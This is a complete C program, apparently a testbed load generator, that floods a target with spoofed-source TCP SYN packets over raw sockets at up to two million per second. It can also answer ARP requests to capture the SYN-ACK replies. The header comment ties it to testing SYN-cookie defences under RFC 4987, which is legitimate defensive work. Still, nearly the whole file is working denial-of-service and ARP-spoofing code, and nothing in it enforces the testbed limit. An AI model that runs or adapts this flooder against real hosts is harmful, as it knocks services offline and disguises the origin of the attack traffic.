/* synflood: a SYN flood from spoofed sources, as raw Ethernet frames into a testbed's
 * bridge (RFC 4987 §2: the attack that SYN cookies answer), bounded in rate and time.
 *
 *   synflood --if IF --src-mac MAC --dst-mac MAC --dst IP --dport P --net A.B.0.0/16
 *            --rate N --seconds S [--arp-ip IP]
 *
 * Each SYN comes from a random address of --net and a random port, with the options a
 * Linux client sends (MSS 1460, SACK-permitted, Timestamps, Window Scale 7), so that a
 * receiver pays the work a real connection request costs. Frames leave through a packet
 * socket in batches of up to 64 (sendmmsg, bypassing the qdisc), paced so that at most
 * `rate` leave per second; the rate reached is reported, since a shared machine may not
 * reach the one asked for.
 *
 * --arp-ip: answer ARP requests for IP with --src-mac, so that receivers whose route to
 * --net goes through a gateway at IP send their SYN,ACKs there (to this interface, where
 * they are dropped), as they would to a router towards spoofed sources on the Internet.
 *
 * Prints one JSON line: {"sent": N, "seconds": T, "rate": R, "arp_replies": A, ...}.
 * Run it only inside a testbed namespace: it sends nothing else, and nothing outside it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH        64
#define RATE_MAX     2000000
#define SECONDS_MAX  60.0
/* Ethernet 14 + IPv4 20 + TCP 20 + options 20 */
#define SYN_LEN      74
#define ARP_LEN      42

static uint64_t rng_state;

static uint64_t rnd(void)
{
	/* xorshift64*: fast, and good enough to spread tuples */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 2685821657736338717ull;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool parse_mac(const char *s, uint8_t mac[6])
{
	unsigned v[6];
	char end;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5], &end) != 6)
		return false;
	for (int i = 0; i < 6; i++) {
		if (v[i] > 255)
			return false;
		mac[i] = (uint8_t)v[i];
	}
	return true;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t acc)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		acc += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		acc += (uint32_t)p[n - 1] << 8;
	return acc;
}

static uint16_t fold(uint32_t acc)
{
	while (acc >> 16)
		acc = (acc & 0xffff) + (acc >> 16);
	return (uint16_t)~acc;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }

struct cfg {
	uint8_t src_mac[6], dst_mac[6];
	uint32_t dst, net, mask;   /* host order */
	uint16_t dport;
};

/* One SYN from a random source of the spoofed network. */
static void build_syn(uint8_t *f, const struct cfg *c, uint32_t ts)
{
	uint64_t r = rnd();
	uint32_t src = (c->net & c->mask) | ((uint32_t)r & ~c->mask);
	uint16_t sport = (uint16_t)(1024 + (r >> 32) % 64512);
	uint32_t isn = (uint32_t)rnd();
	uint8_t *ip = f + 14, *tcp = ip + 20;

	memcpy(f, c->dst_mac, 6);
	memcpy(f + 6, c->src_mac, 6);
	put16(f + 12, ETHERTYPE_IP);
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, SYN_LEN - 14);
	put16(ip + 4, (uint16_t)(r >> 48));
	put16(ip + 6, 0x4000);  /* DF */
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 12, src);
	put32(ip + 16, c->dst);
	put16(ip + 10, fold(sum16(ip, 20, 0)));
	memset(tcp, 0, 40);
	put16(tcp, sport);
	put16(tcp + 2, c->dport);
	put32(tcp + 4, isn);
	tcp[12] = 10 << 4;      /* 40-byte header */
	tcp[13] = 0x02;         /* SYN */
	put16(tcp + 14, 64240);
	/* MSS 1460, SACK-permitted, Timestamps, NOP, Window Scale 7: Linux's layout */
	static const uint8_t opts[20] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0,
					  1, 3, 3, 7 };
	memcpy(tcp + 20, opts, sizeof(opts));
	put32(tcp + 28, ts);
	uint32_t acc = sum16(ip + 12, 8, 0) + IPPROTO_TCP + 40;
	put16(tcp + 16, fold(sum16(tcp, 40, acc)));
}

/* Answer ARP requests for arp_ip that have arrived; returns the number answered. */
static unsigned answer_arp(int as, int ifindex, const struct cfg *c, uint32_t arp_ip)
{
	uint8_t in[128], out[ARP_LEN];
	unsigned n = 0;

	for (int k = 0; k < 64; k++) {
		ssize_t len = recv(as, in, sizeof(in), MSG_DONTWAIT);
		if (len < 0)
			break;
		if (len < ARP_LEN || in[12] != 0x08 || in[13] != 0x06)
			continue;
		const uint8_t *a = in + 14;
		/* Ethernet/IPv4 request (op 1) for arp_ip */
		if (a[0] != 0 || a[1] != 1 || a[2] != 8 || a[3] != 0 || a[4] != 6 || a[5] != 4 ||
		    a[6] != 0 || a[7] != 1)
			continue;
		uint32_t tip = (uint32_t)a[24] << 24 | (uint32_t)a[25] << 16 | (uint32_t)a[26] << 8 | a[27];
		if (tip != arp_ip)
			continue;
		memcpy(out, a + 8, 6);              /* to the asker's MAC */
		memcpy(out + 6, c->src_mac, 6);
		put16(out + 12, ETHERTYPE_ARP);
		uint8_t *r = out + 14;
		memcpy(r, a, 6);
		r[6] = 0;
		r[7] = 2;                           /* reply */
		memcpy(r + 8, c->src_mac, 6);
		memcpy(r + 14, a + 24, 4);          /* sender: the address asked for */
		memcpy(r + 18, a + 8, 10);          /* target: the asker's MAC and address */
		struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
		memcpy(to.sll_addr, a + 8, 6);
		if (sendto(as, out, sizeof(out), 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)sizeof(out))
			n++;
	}
	return n;
}

static void usage(FILE *f)
{
	fprintf(f, "usage: synflood --if IF --src-mac MAC --dst-mac MAC --dst IP --dport P\n"
		   "                --net A.B.C.D/NN --rate N --seconds S [--arp-ip IP]\n");
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "if", required_argument, NULL, 'i' }, { "src-mac", required_argument, NULL, 's' },
		{ "dst-mac", required_argument, NULL, 'd' }, { "dst", required_argument, NULL, 'D' },
		{ "dport", required_argument, NULL, 'p' }, { "net", required_argument, NULL, 'n' },
		{ "rate", required_argument, NULL, 'r' }, { "seconds", required_argument, NULL, 'S' },
		{ "arp-ip", required_argument, NULL, 'a' }, { "help", no_argument, NULL, 'h' },
		{ 0 }
	};
	struct cfg c = { 0 };
	const char *ifname = NULL;
	long rate = 0;
	double seconds = 0;
	uint32_t arp_ip = 0;
	bool have_src = false, have_dst_mac = false, have_net = false;
	int o;

	while ((o = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		struct in_addr a;
		char *end, *slash;

		switch (o) {
		case 'i': ifname = optarg; break;
		case 's': have_src = parse_mac(optarg, c.src_mac); break;
		case 'd': have_dst_mac = parse_mac(optarg, c.dst_mac); break;
		case 'D':
			if (inet_pton(AF_INET, optarg, &a) != 1)
				goto bad;
			c.dst = ntohl(a.s_addr);
			break;
		case 'p': {
			long p = strtol(optarg, &end, 10);
			if (*end || p < 1 || p > 65535)
				goto bad;
			c.dport = (uint16_t)p;
			break;
		}
		case 'n': {
			char buf[32];
			snprintf(buf, sizeof(buf), "%s", optarg);
			slash = strchr(buf, '/');
			if (!slash)
				goto bad;
			*slash = 0;
			long len = strtol(slash + 1, &end, 10);
			if (*end || len < 8 || len > 30 || inet_pton(AF_INET, buf, &a) != 1)
				goto bad;
			c.mask = ~0u << (32 - len);
			c.net = ntohl(a.s_addr) & c.mask;
			have_net = true;
			break;
		}
		case 'r':
			rate = strtol(optarg, &end, 10);
			if (*end || rate < 1 || rate > RATE_MAX)
				goto bad;
			break;
		case 'S':
			seconds = strtod(optarg, &end);
			if (*end || !(seconds > 0 && seconds <= SECONDS_MAX))
				goto bad;
			break;
		case 'a':
			if (inet_pton(AF_INET, optarg, &a) != 1)
				goto bad;
			arp_ip = ntohl(a.s_addr);
			break;
		case 'h': usage(stdout); return 0;
		default: goto bad;
		}
	}
	if (!ifname || !have_src || !have_dst_mac || !c.dst || !c.dport || !have_net || !rate || !seconds)
		goto bad;

	int ifindex = (int)if_nametoindex(ifname);
	if (!ifindex) {
		fprintf(stderr, "synflood: no interface %s\n", ifname);
		return 1;
	}
	int fd = socket(AF_PACKET, SOCK_RAW, 0);  /* protocol 0: sends only, receives nothing */
	int as = arp_ip ? socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_ARP)) : -1;
	if (fd < 0 || (arp_ip && as < 0)) {
		fprintf(stderr, "synflood: packet socket: %s\n", strerror(errno));
		return 1;
	}
	int one = 1;
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
	memcpy(to.sll_addr, c.dst_mac, 6);
	if (as >= 0) {
		struct sockaddr_ll b = { .sll_family = AF_PACKET, .sll_ifindex = ifindex,
					 .sll_protocol = htons(ETHERTYPE_ARP) };
		if (bind(as, (struct sockaddr *)&b, sizeof(b)) < 0) {
			fprintf(stderr, "synflood: bind: %s\n", strerror(errno));
			return 1;
		}
	}
	if (getrandom(&rng_state, sizeof(rng_state), 0) != sizeof(rng_state) || !rng_state)
		rng_state = 0x9e3779b97f4a7c15ull;

	static uint8_t frames[BATCH][SYN_LEN];
	struct iovec iov[BATCH];
	struct mmsghdr msg[BATCH];
	for (int i = 0; i < BATCH; i++) {
		iov[i].iov_base = frames[i];
		iov[i].iov_len = SYN_LEN;
		memset(&msg[i], 0, sizeof(msg[i]));
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
		msg[i].msg_hdr.msg_name = &to;
		msg[i].msg_hdr.msg_namelen = sizeof(to);
	}

	uint64_t sent = 0, errors = 0, arp_replies = 0;
	double start = now_s(), end = start + seconds, t;
	while ((t = now_s()) < end) {
		if (as >= 0)
			arp_replies += answer_arp(as, ifindex, &c, arp_ip);
		/* pace: no more than rate * elapsed frames so far */
		uint64_t due = (uint64_t)((t - start) * (double)rate) + 1;
		if (sent >= due) {
			struct timespec ns = { 0, 200000 };  /* 0.2 ms */
			nanosleep(&ns, NULL);
			continue;
		}
		unsigned n = due - sent > BATCH ? BATCH : (unsigned)(due - sent);
		uint32_t ts = (uint32_t)(t * 1000);
		for (unsigned i = 0; i < n; i++)
			build_syn(frames[i], &c, ts);
		int k = sendmmsg(fd, msg, n, 0);
		if (k < 0) {
			if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
				fprintf(stderr, "synflood: sendmmsg: %s\n", strerror(errno));
				return 1;
			}
			errors++;
			continue;
		}
		sent += (unsigned)k;
	}
	double took = now_s() - start;
	printf("{\"sent\": %llu, \"seconds\": %.3f, \"rate\": %.0f, \"rate_asked\": %ld, "
	       "\"send_errors\": %llu, \"arp_replies\": %llu}\n", (unsigned long long)sent, took,
	       (double)sent / took, rate, (unsigned long long)errors, (unsigned long long)arp_replies);
	return 0;
bad:
	usage(stderr);
	return 2;
}
